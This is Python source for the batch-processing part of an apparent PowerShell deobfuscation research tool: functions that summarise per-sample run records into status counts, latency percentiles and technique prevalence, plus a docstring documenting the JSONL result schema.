    counts = {status: 0 for status in STATUSES}
    latencies: List[float] = []
    layers = 0
    changed = 0
    for record in records:
        status = record.get("status", "error")
        counts[status] = counts.get(status, 0) + 1
        if "elapsed_seconds" in record:
            latencies.append(float(record["elapsed_seconds"]))
        layers += int(record.get("layers_unwrapped", 0))
        changed += 1 if record.get("changed") else 0

    summary: Dict[str, object] = {
        "total": len(records),
        "status_counts": counts,
        "layers_unwrapped": layers,
        "changed": changed,
        "latency_mean_seconds": (
            round(sum(latencies) / len(latencies), 6) if latencies else 0.0
        ),
        "latency_p50_seconds": round(_percentile(latencies, 0.50), 6),
        "latency_p95_seconds": round(_percentile(latencies, 0.95), 6),
        "latency_max_seconds": (
            round(max(latencies), 6) if latencies else 0.0
        ),
    }
    if wall_seconds is not None:
        summary["wall_seconds"] = round(wall_seconds, 6)
        summary["throughput_scripts_per_second"] = round(
            len(records) / wall_seconds if wall_seconds > 0 else 0.0, 3
        )
    return summary


def render_summary(summary: Dict[str, object]) -> str:
    """Human-readable multi-line rendering of a :func:`summarize` dict."""
    counts = summary["status_counts"]
    lines = [
        f"samples   : {summary['total']}",
        "status    : "
        + "  ".join(f"{name}={counts.get(name, 0)}" for name in STATUSES),
        f"layers    : {summary['layers_unwrapped']} unwrapped, "
        f"{summary['changed']} samples changed",
        "latency   : "
        f"mean {summary['latency_mean_seconds']:.3f}s  "
        f"p50 {summary['latency_p50_seconds']:.3f}s  "
        f"p95 {summary['latency_p95_seconds']:.3f}s  "
        f"max {summary['latency_max_seconds']:.3f}s",
    ]
    if "throughput_scripts_per_second" in summary:
        lines.append(
            f"throughput: {summary['throughput_scripts_per_second']:.2f} "
            f"scripts/s over {summary['wall_seconds']:.2f}s wall"
        )
    return "\n".join(lines)
