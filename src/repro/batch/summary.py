"""Aggregate statistics over a batch run's records.

:func:`summarize` reduces a record list to the numbers the paper's
evaluation reports per-corpus (status counts, throughput, latency
percentiles) plus the telemetry aggregates PR 2 added: per-phase
latency p50/p95 across the corpus (the Fig 6 per-phase view the paper
itself could not show) and corpus-wide recovery-outcome / unwrap-kind
totals.  :func:`render_summary` formats them for humans.  The summary
dict is plain data so ``benchmarks/bench_utils.render_table`` can turn
it straight into a results table; :class:`repro.batch.BatchSummary` is
the typed view over the same shape.
"""

from typing import Dict, Iterable, List, Optional

from repro.obs.hist import Histogram
from repro.obs.spans import canonical_phase_name
from repro.obs.techniques import render_prevalence

STATUSES = ("ok", "invalid", "timeout", "error")

# Distribution keys reported per phase in ``summary["phase_seconds"]``.
PHASE_METRICS = ("mean", "p50", "p95", "total")


def _percentile(values: List[float], fraction: float) -> float:
    """Nearest-rank percentile; 0.0 on an empty list."""
    if not values:
        return 0.0
    ordered = sorted(values)
    rank = min(len(ordered) - 1, max(0, round(fraction * (len(ordered) - 1))))
    return ordered[rank]


def _phase_distributions(
    per_phase: Dict[str, List[float]],
) -> Dict[str, Dict[str, float]]:
    out: Dict[str, Dict[str, float]] = {}
    for phase, values in per_phase.items():
        out[phase] = {
            "mean": round(sum(values) / len(values), 6),
            "p50": round(_percentile(values, 0.50), 6),
            "p95": round(_percentile(values, 0.95), 6),
            "total": round(sum(values), 6),
        }
    return out


def summarize(
    records: Iterable[dict],
    wall_seconds: Optional[float] = None,
    worker_restarts: Optional[Dict[str, int]] = None,
) -> Dict[str, object]:
    """Reduce batch records to one summary dict.

    Keys: ``total``, ``status_counts`` (every status in
    :data:`STATUSES`, zero-filled), ``layers_unwrapped``,
    ``changed`` (samples whose script changed), ``cache_hits``
    (duplicate samples served from the ``--dedup`` cache), latency
    over the samples that report ``elapsed_seconds``
    (``latency_mean_seconds``, ``latency_p50_seconds``,
    ``latency_p95_seconds``, ``latency_max_seconds``), per-phase
    latency distributions (``phase_seconds``: phase → mean/p50/p95/
    total over the records whose embedded stats carried span timings),
    corpus-wide ``recovery_outcomes`` and ``unwrap_kinds`` totals,
    ``techniques`` prevalence counts (samples exhibiting each
    obfuscation technique — the Table I column), a bucketed
    ``latency_histogram`` (with per-bucket worst-sample trace
    exemplars when records carried ``trace_id``), ``verify`` verdict
    counts when any record carried a ``--verify``
    verdict, and — when given — ``wall_seconds`` plus end-to-end
    ``throughput_scripts_per_second``, and ``worker_restarts`` (the
    pool's crash/timeout respawn counters).

    Header lines (records with a ``kind`` key, e.g. the version
    header ``repro batch`` writes first) are not samples and are
    skipped.
    """
    records = [r for r in records if "kind" not in r]
    counts = {status: 0 for status in STATUSES}
    latencies: List[float] = []
    latency_hist = Histogram()
    per_phase: Dict[str, List[float]] = {}
    recovery_outcomes: Dict[str, int] = {}
    unwrap_kinds: Dict[str, int] = {}
    techniques: Dict[str, int] = {}
    verify_counts: Dict[str, int] = {}
    layers = 0
    changed = 0
    cache_hits = 0
    for record in records:
        verdict = (record.get("verify") or {}).get("verdict")
        if verdict:
            verify_counts[verdict] = verify_counts.get(verdict, 0) + 1
        status = record.get("status", "error")
        cache_hits += 1 if record.get("cache_hit") else 0
        counts[status] = counts.get(status, 0) + 1
        if "elapsed_seconds" in record:
            elapsed = float(record["elapsed_seconds"])
            latencies.append(elapsed)
            latency_hist.observe(elapsed, str(record.get("trace_id") or ""))
        layers += int(record.get("layers_unwrapped", 0))
        changed += 1 if record.get("changed") else 0
        stats = record.get("stats")
        if not isinstance(stats, dict):
            continue
        for phase, seconds in (stats.get("phase_seconds") or {}).items():
            phase = canonical_phase_name(str(phase))
            per_phase.setdefault(phase, []).append(float(seconds))
        for reason, count in (stats.get("recovery_outcomes") or {}).items():
            recovery_outcomes[reason] = (
                recovery_outcomes.get(reason, 0) + int(count)
            )
        for kind, count in (stats.get("unwrap_kinds") or {}).items():
            unwrap_kinds[kind] = unwrap_kinds.get(kind, 0) + int(count)
        for tag, count in (stats.get("techniques") or {}).items():
            techniques[tag] = techniques.get(tag, 0) + int(count)

    summary: Dict[str, object] = {
        "total": len(records),
        "status_counts": counts,
        "layers_unwrapped": layers,
        "changed": changed,
        "latency_mean_seconds": (
            round(sum(latencies) / len(latencies), 6) if latencies else 0.0
        ),
        "latency_p50_seconds": round(_percentile(latencies, 0.50), 6),
        "latency_p95_seconds": round(_percentile(latencies, 0.95), 6),
        "latency_max_seconds": (
            round(max(latencies), 6) if latencies else 0.0
        ),
        "phase_seconds": _phase_distributions(per_phase),
        "recovery_outcomes": recovery_outcomes,
        "unwrap_kinds": unwrap_kinds,
        "techniques": techniques,
        "cache_hits": cache_hits,
    }
    if latency_hist.count:
        summary["latency_histogram"] = latency_hist.to_dict()
    if verify_counts:
        summary["verify"] = verify_counts
    if worker_restarts is not None:
        summary["worker_restarts"] = dict(worker_restarts)
    if wall_seconds is not None:
        summary["wall_seconds"] = round(wall_seconds, 6)
        summary["throughput_scripts_per_second"] = round(
            len(records) / wall_seconds if wall_seconds > 0 else 0.0, 3
        )
    return summary


def render_summary(summary: Dict[str, object]) -> str:
    """Human-readable multi-line rendering of a :func:`summarize` dict."""
    counts = summary["status_counts"]
    lines = [
        f"samples   : {summary['total']}",
        "status    : "
        + "  ".join(f"{name}={counts.get(name, 0)}" for name in STATUSES),
        f"layers    : {summary['layers_unwrapped']} unwrapped, "
        f"{summary['changed']} samples changed",
        "latency   : "
        f"mean {summary['latency_mean_seconds']:.3f}s  "
        f"p50 {summary['latency_p50_seconds']:.3f}s  "
        f"p95 {summary['latency_p95_seconds']:.3f}s  "
        f"max {summary['latency_max_seconds']:.3f}s",
    ]
    for phase, dist in (summary.get("phase_seconds") or {}).items():
        lines.append(
            f"  {phase:<8}: "
            f"mean {dist['mean']:.4f}s  p50 {dist['p50']:.4f}s  "
            f"p95 {dist['p95']:.4f}s  total {dist['total']:.2f}s"
        )
    if summary.get("cache_hits"):
        lines.append(
            f"dedup     : {summary['cache_hits']} of {summary['total']} "
            f"samples served from cache"
        )
    restarts = summary.get("worker_restarts") or {}
    if any(restarts.values()):
        lines.append(
            "workers   : restarts "
            + "  ".join(f"{k}={v}" for k, v in restarts.items())
        )
    outcomes = summary.get("recovery_outcomes") or {}
    if outcomes:
        lines.append(
            "recovery  : "
            + "  ".join(f"{k}={v}" for k, v in outcomes.items())
        )
    kinds = summary.get("unwrap_kinds") or {}
    if any(kinds.values()):
        lines.append(
            "unwraps   : "
            + "  ".join(f"{k}={v}" for k, v in kinds.items())
        )
    technique_counts = summary.get("techniques") or {}
    if technique_counts:
        lines.extend(
            render_prevalence(technique_counts, int(summary["total"]))
        )
    verify_counts = summary.get("verify") or {}
    if verify_counts:
        verified = sum(verify_counts.values())
        lines.append(
            "verify    : "
            + "  ".join(f"{k}={v}" for k, v in sorted(verify_counts.items()))
            + f"  ({verified} verified)"
        )
    if "throughput_scripts_per_second" in summary:
        lines.append(
            f"throughput: {summary['throughput_scripts_per_second']:.2f} "
            f"scripts/s over {summary['wall_seconds']:.2f}s wall"
        )
    return "\n".join(lines)
