"""Corpus-scale batch deobfuscation: ``repro batch`` and its engine.

The paper's evaluation runs over a 39,713-sample wild corpus; this
package is the machinery that makes such runs survivable.  Samples fan
out across a pool of worker processes (:mod:`repro.batch.pool`), each
sample gets a wall-clock budget enforced first cooperatively (the
pipeline's ``deadline_seconds``) and then by SIGKILL, a crashing worker
loses only the sample it held, and results stream to JSONL
(:mod:`repro.batch.results`) so interrupted runs resume where they
stopped.  :mod:`repro.batch.summary` reduces a finished run to status
counts, latency percentiles and throughput.

Typical library use::

    from repro.batch import BatchPool, discover, make_tasks, summarize

    paths = discover(["corpus/"])
    tasks = make_tasks(paths, deadline_seconds=5.0)
    records = list(BatchPool(jobs=4, timeout=5.0).run(tasks))
    print(summarize(records))

JSONL record schema
-------------------
One JSON object per line, one line per sample, written in completion
order.  The shape is pinned by
:data:`repro.batch.records.RECORD_SCHEMA_VERSION` (and a golden-file
test); :class:`SampleRecord` is the typed view.  Common fields:

``path`` (str)
    The sample's filesystem path — the resume key.
``status`` (str)
    ``ok`` | ``invalid`` | ``timeout`` | ``error``.
``schema_version`` (int)
    The record schema revision (4 as of the trace identity and
    technique tags; 3 as of the verify verdict; 2 as of the telemetry
    redesign; records without the field are version 1).
``attempts`` (int)
    How many workers were handed this sample (> 1 after crash retries).

``status: "ok"`` and ``"invalid"`` (parse failure) records add the full
measurement set:

``sha256`` (str), ``size_bytes`` (int)
    Input identity, for joining against corpus metadata.
``elapsed_seconds`` (float)
    Pipeline wall-clock for this sample.
``iterations`` (int), ``layers_unwrapped`` (int), ``changed`` (bool)
    Fixpoint iterations, ``IEX``/``-EncodedCommand`` layers removed,
    and whether the script changed at all.
``stats`` (object)
    The run's full telemetry — ``repro.obs.PipelineStats.to_dict()``:
    phase spans and timings, recovery outcomes with reasons, evaluator
    steps, tracing hit/miss counts, unwrap kinds, and ``techniques``
    prevalence tags (the Table I view).  Load it back with
    ``PipelineStats.from_dict(record["stats"])``.
``script`` (str, optional)
    The deobfuscated script, only with ``--store-scripts``.
``verify`` (object, optional)
    The semantic-equivalence verdict, only with ``--verify`` — a
    ``repro.verify.VerifyVerdict.to_dict()`` payload (``verdict`` of
    ``equivalent``/``divergent``/``inconclusive``, plus ``reason`` and
    a bounded event ``diff`` when present).

``status: "timeout"`` records add:

``graceful`` (bool)
    True when the in-pipeline deadline returned a partial result;
    False when the parent had to SIGKILL the worker (then only
    ``path``/``status``/``graceful``/``elapsed_seconds``/``attempts``
    are present).

``status: "error"`` records add:

``error`` (str)
    The worker exception, or ``worker process died (exit code N)``.

Under ``--dedup``, records for duplicate samples add:

``cache_hit`` (bool)
    True when this sample's content hash matched an earlier sample
    and the earlier result was reused (measurements are the original
    run's; only ``path`` differs).

Traced runs (``Task.trace`` set — ``repro batch --trace-out``) add:

``trace_id`` (str)
    The 32-hex W3C trace id this sample's spans belong to — the join
    key against a ``--trace-out`` span JSONL file.
``trace_spans`` (list, optional)
    The worker-side span payloads (:class:`repro.obs.trace.TraceSpan`
    dicts) carried back across the process boundary.  The CLI drains
    these into the span file and strips the key before writing the
    record; it survives only in library use of :class:`BatchPool`.

A run's first line is a *header*, not a sample record:
``{"kind": "batch_header", "repro_version": ...,
"record_schema_version": ..., "created_unix": ...}`` — consumers that
iterate records should skip lines carrying ``kind``
(:func:`summarize` already does).
"""

from repro.batch.pool import BatchPool, run_batch
from repro.batch.results import batch_header
from repro.batch.records import (
    RECORD_SCHEMA_VERSION,
    BatchSummary,
    SampleRecord,
)
from repro.batch.results import ResultWriter, completed_paths, iter_records
from repro.batch.summary import render_summary, summarize
from repro.batch.task import (
    DEFAULT_WORKER_SPEC,
    Task,
    discover,
    make_tasks,
    run_one,
)

__all__ = [
    "BatchPool",
    "run_batch",
    "batch_header",
    "RECORD_SCHEMA_VERSION",
    "BatchSummary",
    "SampleRecord",
    "ResultWriter",
    "completed_paths",
    "iter_records",
    "render_summary",
    "summarize",
    "DEFAULT_WORKER_SPEC",
    "Task",
    "discover",
    "make_tasks",
    "run_one",
]
